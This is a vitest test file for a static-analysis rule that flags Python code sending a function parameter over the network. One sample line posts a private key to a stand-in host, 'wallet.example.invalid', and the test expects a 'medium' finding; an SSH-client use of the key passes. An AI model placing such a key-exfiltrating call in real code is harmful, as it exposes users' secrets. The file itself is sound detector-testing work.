import { expect, test } from 'vitest';
import parameterToNetwork from '../../src/rules/parameter-to-network.js';
import { read } from '../python/reading.js';

async function severitiesOf(body: string): Promise<readonly string[]> {
  const { facts } = await read(`import paramiko\nimport requests\n\n\ndef connect(host, private_key):\n    ${body}\n`);
  return facts === null ? [] : parameterToNetwork.check(facts).map(({ severity }) => severity);
}

test('a key that a client for ssh is given stays where it is, one that is posted does not', async () => {
  expect(await severitiesOf('paramiko.SSHClient().connect(host, pkey=private_key)')).toEqual([]);
  expect(await severitiesOf('requests.post("https://wallet.example.invalid", data=private_key)')).toEqual(['medium']);
});
